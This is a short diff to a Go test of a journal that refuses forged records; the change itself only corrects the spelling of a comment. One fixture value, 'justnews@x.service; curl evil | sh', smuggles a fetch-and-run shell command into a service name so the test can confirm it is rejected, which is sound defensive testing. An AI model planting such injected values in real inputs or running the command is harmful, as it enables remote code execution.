@@ -58,7 +58,7 @@ func TestJournalGetsTheWholeAgainAfterASuccess(t *testing.T) {
 func TestJournalForgedRecordsOnlyShortenLines(t *testing.T) {
 	forged := said{Whole: map[string]saidOnce{
 		"A": {"justnews@x.service; curl evil | sh", 10}, // would be pasted
-		"B": {"justnews@x.service", 1e12},               // would hold for ever
+		"B": {"justnews@x.service", 1e12},               // would hold forever
 	}}
 	for _, cause := range []string{"A", "B"} {
 		if how, by := forged.refused("justnews@scout.service", cause, cause, 0, 60); how != sayWhole || by != "justnews@scout.service" {
